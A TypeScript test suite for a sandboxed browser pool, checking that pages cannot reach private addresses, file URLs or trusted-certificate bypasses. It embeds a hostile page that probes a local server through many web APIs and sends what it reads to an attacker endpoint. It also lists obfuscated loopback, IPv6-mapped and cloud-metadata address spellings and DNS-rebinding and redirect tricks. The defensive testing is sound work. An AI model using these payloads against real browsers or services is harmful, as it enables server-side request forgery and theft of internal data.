// A page cannot reach private addresses by any web API, with and without the jail.
import { createSocket } from 'node:dgram';
import { createServer } from 'node:http';
import type { Server } from 'node:http';
import { createSecureServer } from 'node:http2';
import { createServer as createTlsServer } from 'node:https';
import type { Server as TlsServer } from 'node:https';
import { createServer as createTcpServer } from 'node:net';
import type { AddressInfo } from 'node:net';
import { networkInterfaces } from 'node:os';
import { setTimeout as sleep } from 'node:timers/promises';
import { afterAll, beforeAll, beforeEach, describe, expect, onTestFinished, test } from 'vitest';
import { ApiError } from '../../src/contract/errors.ts';
import type { Browsers } from '../../src/web/browser/pool/browsers.ts';
import { makeCertificate } from '../../src/web/testing/certificate.ts';
import { startBrowsers } from './support.ts';

const lan = Object.values(networkInterfaces())
  .flat()
  .find((one) => one?.family === 'IPv4' && !one.internal)?.address;

/** Uses every web API that can send a request. `port` is the protected server's, on every address. */
const attackPage = (
  port: number,
  tcpPort: number,
  udpPort: number,
  evil: string,
) => `<!doctype html><title>evil</title><body><script>
const T = 'http://127.0.0.3:${port}', out = [];
const tryFetch = (url, options) => fetch(url, options).then((r) => r.text()).then((text) => out.push(url + ' ' + text), () => {});
const make = (tag, properties) => { const e = Object.assign(document.createElement(tag), properties); (document.body ?? document.documentElement).append(e); return e; };
(async () => {
  await Promise.all([T + '/fetch', ${JSON.stringify(spellings('PORT').map((host) => `http://${host}/spelling`)).replaceAll('PORT', String(port))}].flat().map((url) => tryFetch(url)));
  await tryFetch('${evil}/redirect?to=' + encodeURIComponent(T + '/redirected'));
  await tryFetch('http://rebind.test:${port}/rebound'); await tryFetch('http://inside.test:${port}/named'); await tryFetch(T + '/nocors', { mode: 'no-cors' });
  new Image().src = T + '/image.png';
  make('iframe', { src: T + '/iframe' });
  make('iframe', { src: '${evil}/redirect?to=' + encodeURIComponent(T + '/iframe-redirected') });
  make('iframe', { src: 'file:///etc/passwd' });
  make('script', { src: T + '/script.js' });
  make('link', { rel: 'stylesheet', href: T + '/style.css' });
  make('link', { rel: 'preconnect', href: 'http://127.0.0.3:${tcpPort}' });
  make('link', { rel: 'dns-prefetch', href: 'http://127.0.0.3:${tcpPort}' });
  make('link', { rel: 'prefetch', href: T + '/prefetch' });
  make('link', { rel: 'manifest', href: T + '/manifest.json' });
  make('video', { src: T + '/video.mp4' }); make('object', { data: T + '/object' }); make('embed', { src: T + '/embed' });
  make('style', { textContent: '@font-face{font-family:x;src:url(' + T + '/font.woff)}body{font-family:x;background:url(' + T + '/background.png)}' });
  for (const url of ['ws://127.0.0.3:${port}/socket', 'ws://127.0.0.3:${tcpPort}/socket', 'ws://localhost:${port}/socket']) try { new WebSocket(url) } catch {}
  try { new EventSource(T + '/events') } catch {}
  try { navigator.sendBeacon(T + '/beacon', 'x') } catch {}
  const code = "fetch('" + T + "/worker', { mode: 'no-cors' }); try { importScripts('" + T + "/imported.js') } catch {}; new WebSocket('ws://127.0.0.3:${port}/worker-socket')";
  try { new Worker(URL.createObjectURL(new Blob([code]))) } catch {}
  try { new SharedWorker(URL.createObjectURL(new Blob([code]))) } catch {}
  try { await navigator.serviceWorker.register('/service-worker.js') } catch (error) { out.push('sw ' + error.message) }
  try {
    const peer = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.3:${udpPort}' }, { urls: 'stun:127.0.0.1:${udpPort}' }, { urls: 'turn:127.0.0.3:${tcpPort}?transport=tcp', username: 'a', credential: 'b' }] });
    peer.createDataChannel('x'); await peer.setLocalDescription(await peer.createOffer());
  } catch {}
  try { new WebTransport('https://127.0.0.3:${udpPort}/transport') } catch {}
  const form = make('form', { method: 'post', action: T + '/form', target: 'inner' }); make('iframe', { name: 'inner' }); form.submit();
  open(T + '/popup');
  const link = make('a', { href: '#', ping: T + '/ping' }); link.click();
  make('a', { href: T + '/blank', target: '_blank' }).click();
  make('a', { href: T + '/download', download: 'x' }).click();
  try { document.cookie = 'a=b'; new PaymentRequest([{ supportedMethods: T + '/payment' }], { total: { label: 'x', amount: { currency: 'USD', value: '1' } } }).show().catch(() => {}) } catch {}
  fetch('/done?' + encodeURIComponent(JSON.stringify(out)));
  if (location.search !== '?stay') setTimeout(() => location = T + '/left', 300);
})();
</script>`;

/** 127.0.0.1, 127.0.0.3, ::1 and other private places in every spelling that URL parsers accept. */
function spellings(port: string): string[] {
  const hosts = [
    '127.0.0.1',
    '127.0.0.3',
    '127.1',
    '127.3',
    '0.0.0.0',
    '0',
    '2130706433',
    '2130706435',
    '0x7f000003',
    '0x7f.0.0.3',
    '0177.0.0.3',
  ];
  const names = [
    'localhost',
    'a.localhost',
    'localhost.',
    '127.0.0.3.',
    '127。0。0。3',
    '①27.0.0.3',
    '%31%32%37.0.0.3',
  ];
  const v6 = [
    '[::1]',
    '[::]',
    '[::ffff:127.0.0.3]',
    '[::ffff:7f00:3]',
    '[::127.0.0.3]',
    '[64:ff9b::7f00:3]',
    '[2002:7f00:3::]',
    '[0:0:0:0:0:ffff:127.0.0.3]',
  ];
  const rest = ['169.254.169.254', '10.0.0.1', '192.168.0.1', '172.16.0.1', '100.64.0.1', ...(lan ? [lan] : [])];
  return [...hosts, ...names, ...v6, ...rest].map((host) => `${host}:${port}`);
}

describe.each([
  ['a browser', 'jailed', [], false],
  ['a browser', 'sandboxed', ['jailed'], false],
  ['a browser without a network namespace', 'sandboxed', ['jailed', 'own network'], false],
  ['the window of webunlocker', 'jailed', [], true],
] as const)('a page in %s that is %s', (_, level, skipLevels, isWindow) => {
  const hits: string[] = [];
  let browsers: Browsers;
  let evil: Server;
  let evilOrigin: string;
  let port: number;
  let onDone: (found: string) => void = () => {};
  const closers: (() => void)[] = [];

  beforeAll(async () => {
    const secret = createServer((request, response) => {
      hits.push(`${request.method} ${request.headers.host}${request.url}`);
      response.writeHead(200, { 'access-control-allow-origin': '*', 'content-type': 'text/html' }).end('SECRET');
    });
    secret.on('upgrade', (request, socket) => {
      hits.push(`upgrade ${request.url}`);
      socket.destroy();
    });
    secret.listen(0, '::'); // every address of this machine
    const tcp = createTcpServer((socket) => {
      hits.push('a raw connection');
      socket.on('error', () => {}).destroy();
    }).listen(0, '::');
    const udp = createSocket({ type: 'udp6' }).on('message', () => hits.push('a datagram'));
    await new Promise<void>((resolve) => {
      udp.bind(0, '::', resolve);
    });
    port = (secret.address() as AddressInfo).port;
    const ports = [port, (tcp.address() as AddressInfo).port, udp.address().port] as const;
    evil = createServer((request, response) => {
      const url = new URL(request.url ?? '/', 'http://evil');
      if (url.pathname === '/done') {
        onDone(decodeURIComponent(url.search));
        response.end();
      } else if (url.pathname === '/redirect') {
        response.writeHead(302, { location: url.searchParams.get('to')!, 'access-control-allow-origin': '*' }).end();
      } else if (url.pathname === '/service-worker.js') {
        response.writeHead(200, { 'content-type': 'text/javascript' });
        response.end(
          `addEventListener('install', () => fetch('http://127.0.0.3:${port}/service-worker', { mode: 'no-cors' }))`,
        );
      } else if (url.pathname === '/refresh') {
        response.writeHead(200, { 'content-type': 'text/html', refresh: `0;url=${url.searchParams.get('to')}` }).end();
      } else {
        response.writeHead(200, { 'content-type': 'text/html' }).end(attackPage(...ports, evilOrigin));
      }
    });
    await new Promise<void>((resolve) => {
      evil.listen(0, '127.0.0.2', resolve);
    });
    evilOrigin = `http://127.0.0.2:${(evil.address() as AddressInfo).port}`;
    browsers = startBrowsers({
      skipLevels,
      ...(isWindow ? { isWindow, warmPages: 0 } : {}),
      resolve: new Map([
        ['evil.test', ['127.0.0.2']],
        ['rebind.test', ['127.0.0.2', '127.0.0.3']],
        ['inside.test', ['127.0.0.3']],
      ]),
    });
    closers.push(
      () => secret.close(),
      () => tcp.close(),
      () => udp.close(),
      () => evil.close(),
    );
  });

  beforeEach(() => {
    hits.length = 0;
  });

  afterAll(async () => {
    await browsers.close();
    for (const close of closers) close();
    evil.closeAllConnections();
  });

  test('reaches no private address by any web API', async () => {
    for (const origin of [evilOrigin, evilOrigin.replace('127.0.0.2', 'evil.test')]) {
      await using page = await browsers.openPage({ account: 1 });
      const isDone = new Promise<string>((resolve) => (onDone = resolve));
      await page.goto(`${origin}/`, { waitUntil: 'load', timeoutSeconds: 10 }).catch(() => {}); // it navigates away at once
      expect(await isDone).not.toContain('SECRET');
      await sleep(700);
    }
    expect(hits).toEqual([]);
    expect(browsers.status?.level).toBe(level);
  });

  const levelsWithProof = level === 'jailed' ? [level] : []; // checked once per kind of browser
  test.each(levelsWithProof)(
    'reaches private addresses by many APIs when they are allowed: the attacks are real',
    async () => {
      const open = startBrowsers({ egressAllow: ['127.0.0.0/8', '::1'], isWindow });
      onTestFinished(() => open.close());
      await using page = await open.openPage({ account: 1 });
      const isDone = new Promise<string>((resolve) => (onDone = resolve));
      await page.goto(`${evilOrigin}/?stay`, { waitUntil: 'load', timeoutSeconds: 10 }).catch(() => {});
      expect(await isDone).toContain('SECRET');
      const reached = () => new Set(hits.map((hit) => hit.replace(/^\S+ [^/]*/, '')));
      const expected = new Set(['/worker', '/beacon', '/service-worker', '/form', '/redirected']);
      await expect.poll(() => reached().isSupersetOf(expected)).toBe(true);
      await expect.poll(() => reached().size).toBeGreaterThan(18);
      await sleep(500);
      expect(reached()).not.toContain('/popup');
    },
  );

  test('cannot be opened at a private address, in any spelling or by redirect', async () => {
    await using page = await browsers.openPage({ account: 1 });
    const open = (url: string) =>
      page.goto(url, { waitUntil: 'load', timeoutSeconds: 5 }).then(
        (response) => response,
        (error: unknown) => error,
      );
    const inside = spellings(String(port)).map((host) => `http://${host}/`);
    const named = [
      `http://rebind.test:${port}/`,
      `http://inside.test:${port}/`,
      `https://inside.test:${port}/`,
      `https://127.0.0.3:${port}/`,
    ];
    const led = ['redirect', 'refresh'].map((path) => `${evilOrigin}/${path}?to=http://127.0.0.3:${port}/`);
    for (const url of [...inside, ...named, ...led]) {
      const outcome = await open(url);
      expect([url, outcome instanceof ApiError]).toEqual([url, true]);
      const { status, code, message } = outcome as ApiError;
      // Some machines do not resolve a.localhost.
      if (!url.includes('a.localhost') || code !== 'target_dns')
        expect([url, message, status]).toEqual([url, message, 400]);
    }
    expect(hits).toEqual([]);
  });

  test('can only be opened with http and https URLs', async () => {
    await using page = await browsers.openPage({ account: 1 });
    for (const url of [
      'file:///etc/passwd',
      'chrome://version',
      'devtools://devtools/bundled/inspector.html',
      'view-source:http://evil.test/',
      'data:text/html,x',
      'javascript:1',
      'about:blank',
      'ftp://127.0.0.2/',
    ]) {
      const outcome = await page.goto(url, { waitUntil: 'load', timeoutSeconds: 5 }).catch((error: unknown) => error);
      expect([url, outcome]).toEqual([url, expect.objectContaining({ status: 400 })]);
      expect(outcome).toBeInstanceOf(ApiError);
    }
  });

  test.each(['ftp://127.0.0.2/', 'mailto:someone@example.com', 'tel:123'])(
    'is not redirected to %s',
    async (location) => {
      await using page = await browsers.openPage({ account: 1 });
      const to = `${evilOrigin}/redirect?to=${encodeURIComponent(location)}`;
      const message = `Internal Error: ${new URL(evilOrigin).host} redirects to an address that is not http or https`;
      await expect(page.goto(to, { waitUntil: 'load', timeoutSeconds: 5 })).rejects.toMatchObject({
        code: 'target_redirects',
        message,
      });
    },
  );

  test('is not redirected to a file', async () => {
    await using page = await browsers.openPage({ account: 1 });
    const led = page.goto(`${evilOrigin}/redirect?to=file:///etc/passwd`, { waitUntil: 'load', timeoutSeconds: 5 });
    const host = new URL(evilOrigin).host;
    const message = `Internal Error: ${host} redirects to an address that browsers refuse: unsafe redirect`;
    await expect(led).rejects.toMatchObject({ status: 500, code: 'target_redirects', message });
  });
});

describe('a page over HTTPS', () => {
  const { key, cert } = makeCertificate(['secure.test']);
  let server: TlsServer;
  let url: string;
  const resolve = new Map([['secure.test', ['127.0.0.2']]]);

  beforeAll(async () => {
    server = createTlsServer({ key, cert }, (_request, response) => {
      response.writeHead(200, { 'content-type': 'text/html' }).end('<p>secure</p>');
    });
    await new Promise<void>((done) => {
      server.listen(0, '127.0.0.2', done);
    });
    url = `https://secure.test:${(server.address() as AddressInfo).port}/`;
  });

  afterAll(() => {
    server.closeAllConnections();
    server.close();
  });

  test('is refused when its certificate cannot be trusted', async () => {
    const browsers = startBrowsers({ resolve });
    await using page = await browsers.openPage({ account: 1 });
    const opened = page.goto(url, { waitUntil: 'load', timeoutSeconds: 10 });
    await expect(opened).rejects.toMatchObject({ status: 500, code: 'target_tls' });
    await browsers.close();
  });

  describe('with an authority of the operator', () => {
    const attacker = makeCertificate(['attacked.test']);
    const names = new Map(['secure.test', 'other.test', 'attacked.test'].map((name) => [name, ['127.0.0.2']]));
    const servers: TlsServer[] = [];
    let browsers: Browsers;

    const listenOn = async (started: TlsServer) => {
      servers.push(started);
      await new Promise<void>((done) => {
        started.listen(0, '127.0.0.2', done);
      });
      return (started.address() as AddressInfo).port;
    };
    const open = async (address: string) => {
      await using page = await browsers.openPage({ account: 1 });
      await page.goto(address, { waitUntil: 'load', timeoutSeconds: 15 });
      return (await page.read({ timeoutSeconds: 5 })).html;
    };

    beforeAll(() => {
      browsers = startBrowsers({ resolve: names, ownAuthorities: [cert] });
    });

    afterAll(async () => {
      await browsers.close();
      for (const one of servers) one.close();
    });

    test('is shown every time, and its scripts can fetch', async () => {
      for (let i = 0; i < 2; i++) expect(await open(url)).toContain('<p>secure</p>');
      await using page = await browsers.openPage({ account: 1 });
      await page.goto(url, { waitUntil: 'load', timeoutSeconds: 15 });
      const fetched = await page.fetch(`${url}again`, { timeoutSeconds: 10 });
      expect([fetched.status, fetched.body.toString()]).toEqual([200, '<p>secure</p>']);
    });

    test('is shown if its server supports only HTTP/2', async () => {
      const port = await listenOn(
        createSecureServer({ key, cert }, (request, response) => {
          response.setHeader('content-type', 'text/html');
          response.end(`<p>${request.httpVersion}</p>`);
        }) as never,
      );
      expect(await open(`https://secure.test:${port}/`)).toContain('<p>2.0</p>');
    });

    test('is refused for another host name', async () => {
      await expect(open(url.replace('secure', 'other'))).rejects.toMatchObject({ code: 'target_tls' });
    });

    test('is refused if its chain only contains the certificate of the authority', async () => {
      const port = await listenOn(
        createTlsServer({ key: attacker.key, cert: attacker.cert + cert }, (_request, response) => response.end('no')),
      );
      await expect(open(`https://attacked.test:${port}/`)).rejects.toMatchObject({ code: 'target_tls' });
    });

    test('over plain HTTP is shown too', async () => {
      const plain = createServer((_request, response) => response.end('<p>plain</p>'));
      const port = await listenOn(plain as never);
      expect(await open(`http://secure.test:${port}/`)).toContain('plain');
    });
  });
});
